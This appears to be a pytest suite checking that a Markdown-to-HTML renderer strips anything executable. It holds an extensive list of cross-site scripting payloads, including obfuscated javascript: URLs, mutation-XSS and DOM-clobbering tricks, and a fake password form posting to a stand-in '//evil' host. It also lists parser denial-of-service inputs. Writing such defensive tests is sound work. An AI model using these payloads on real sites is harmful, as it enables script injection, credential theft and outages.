"""Markdown becomes HTML that is safe to put into a page, whatever was written."""

import re
from html.parser import HTMLParser

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services import markdown, sanitiser

PAYLOADS = """
<script>alert(1)</script>
<ScRiPt src=//evil></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" onload=alert(1)>
<svg onload=alert(1)><path d="M0"/></svg>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math href="javascript:alert(1)"><mi>x</mi></math>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="//evil"><input name=password><button>Log in</button></form>
<input type="password" name="password" autofocus onfocus=alert(1)>
<base href="//evil/">
<meta http-equiv="refresh" content="0;url=//evil">
<link rel="stylesheet" href="//evil">
<style>@import '//evil';body{display:none}</style>
<div style="position:fixed;inset:0;background:url(//evil)">x</div>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java&#x0A;script:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x]: javascript:alert(1) "y"
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](/a.png "title" onerror=alert(1))
![" onerror="alert(1)](/a.png)
<javascript:alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><script>alert(1)</script></template>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<a id="content" name="getElementById">x</a>
<img name=cookie id=site><form id=document>
<p id="content" class="flash site-header">x</p>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<a href="https://x" target="_blank" onclick="alert(1)">x</a>
<select><noembed></select><script>x='a@b'a</noembed><img src=x onerror=alert(1)>
```"><script>alert(1)</script>\ncode\n```
```python onload=alert(1)\nx\n```
<pre><code class="language-python"><script>alert(1)</script></code></pre>
<span data-math-style="inline"><script>alert(1)</script></span>
$\\href{javascript:alert(1)}{x}$
$</math><script>alert(1)</script>$
[^x]: <script>alert(1)</script>
> [!NOTE] <script>alert(1)</script>
| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |
- [ ] <script>alert(1)</script>
# <script>alert(1)</script>
https://evil.example/"onmouseover="alert(1)
<https://evil.example/"onmouseover="alert(1)>
""".strip().splitlines()

ALLOWED_TAGS = sanitiser.TAGS | {"div"}
URL_ATTRIBUTES = {"href", "src"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)  # RFC 3986, section 3.1
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


class Inspector(HTMLParser):
    """Looks at HTML as a browser's tokeniser would, and notes whatever could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            is_handler = name.startswith("on") or name in ("style", "srcdoc", "action", "name")
            scheme = (
                SCHEME.match("".join((value or "").split())) if name in URL_ATTRIBUTES else None
            )
            is_bad_url = scheme is not None and scheme.group(1).lower() not in SAFE_SCHEMES
            is_bad_id = name == "id" and not sanitiser.OUR_IDS.fullmatch(value or "")
            if is_handler or is_bad_url or is_bad_id:
                self.findings.append(f"<{tag} {name}={value}>")


def findings(rendered: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(rendered)
    again = html5lib.serialize(html5lib.parseFragment(rendered), quote_attr_values="always")
    inspector.feed(again)  # what a parser makes of it must be as harmless
    return inspector.findings


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_run_comes_out(payload: str) -> None:
    payload = payload.replace("\\n", "\n")
    for text in (
        payload,
        f"Words {payload} words",
        f"> {payload}",
        f"- {payload}\n",
        f"*{payload}*",
    ):
        assert findings(markdown.render(text)) == []


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PAYLOADS) | st.text(max_size=20), max_size=6).map(" ".join))
def test_no_mixture_of_them_does_either(text: str) -> None:
    rendered = markdown.render(text.replace("\\n", "\n"))
    assert findings(rendered) == []
    assert markdown.render(text.replace("\\n", "\n")) == rendered


@pytest.mark.parametrize(
    ("source", "rendered"),
    [
        ("*a* **b** `c` ~~d~~", "<p><em>a</em> <strong>b</strong> <code>c</code> <del>d</del></p>"),
        ('"Quotes" -- and...', "<p>“Quotes” – and…</p>"),
        ("https://example.org", '<a href="https://example.org" rel="noopener">'),
        ("| a | b |\n|:-:|--:|\n| 1 | 2 |", '<td align="right">2</td>'),
        ("| a |\n|---|\n| 1 |", '<div class="wide-table" tabindex="0"><table>'),
        (
            "- [x] done\n- [ ] open",
            '<input type="checkbox" checked="" aria-label="done" disabled=""> done',
        ),
        ("A[^n]\n\n[^n]: Note.", '<sup class="footnote-ref"><a href="#fn-n" id="fnref-n"'),
        ("> [!WARNING]\n> Wet paint.", '<aside class="admonition warning">'),
        ("## A *title*", '<h2 id="h-a-title">A <em>title</em><a class="anchor" href="#h-a-title"'),
        ("## A\n\n## A", 'id="h-a-2"'),
        ("```python\nx = 1\n```", '<span class="n">x</span>'),
        ("```nonsense\nx < 1\n```", "<code>x &lt; 1\n</code>"),
        ("    indented", '<pre tabindex="0"><code>indented\n</code></pre>'),
        ("$x^2$", "<msup><mi>x</mi><mn>2</mn></msup>"),
        ("$\\begin{$", "<code>"),
        ('![alt](/x.png "Caption")', "<figure><img"),
        ("<kbd>Ctrl</kbd> <mark>m</mark>", "<p><kbd>Ctrl</kbd> <mark>m</mark></p>"),
        ("<details><summary>More</summary>\n\nText\n</details>", "<summary>More</summary>"),
    ],
)
def test_what_authors_write_looks_as_meant(source: str, rendered: str) -> None:
    assert rendered in markdown.render(source)


# What takes parsers quadratic time or a deep stack: it must simply come out, in a thread as small
# as some systems make them.
HOSTILE = {
    "quotes": ">",
    "spaced quotes": "> ",
    "quotes in lists": "1. > ",
    "lists": "1. ",
    "brackets": "[",
    "images": "![",
    "emphasis": "*a **b ",
    "backticks": "`a",
    "tables": "|a",
    "raw blocks": "<div>",
    "raw lists": "<ul><li>",
    "formatting": "<b><p>",
    "equal headings": "# a\n",
    "addresses": "a@b.cc ",
    "linked addresses": "http://a@b.",
    "formulas": "$a$ ",
    "listings": "```python\nx\n```\n",
    "imitated listings": '<pre><code class="language-x">',
    "footnotes": "[^1]",
    "tags": "<a ",
}


@pytest.mark.parametrize("piece", HOSTILE.values(), ids=HOSTILE)
def test_half_a_megabyte_of_anything_comes_out(piece: str) -> None:
    import threading

    done: list[str] = []
    usual = threading.stack_size(512 * 1024)
    try:
        text = piece * (512 * 1024 // len(piece)) + "\n\n[^1]: note"
        thread = threading.Thread(target=lambda: done.append(markdown.render(text)))
        thread.start()
        thread.join()
    finally:
        threading.stack_size(usual)
    assert done


def test_plain_text_is_the_words_alone() -> None:
    rendered = markdown.render("# Title\n\nSome *words* &amp; more.[^1]\n\n[^1]: A note.")
    assert markdown.plain_text(rendered) == "Title Some words & more."
    assert markdown.opening(rendered) == "Some words & more."
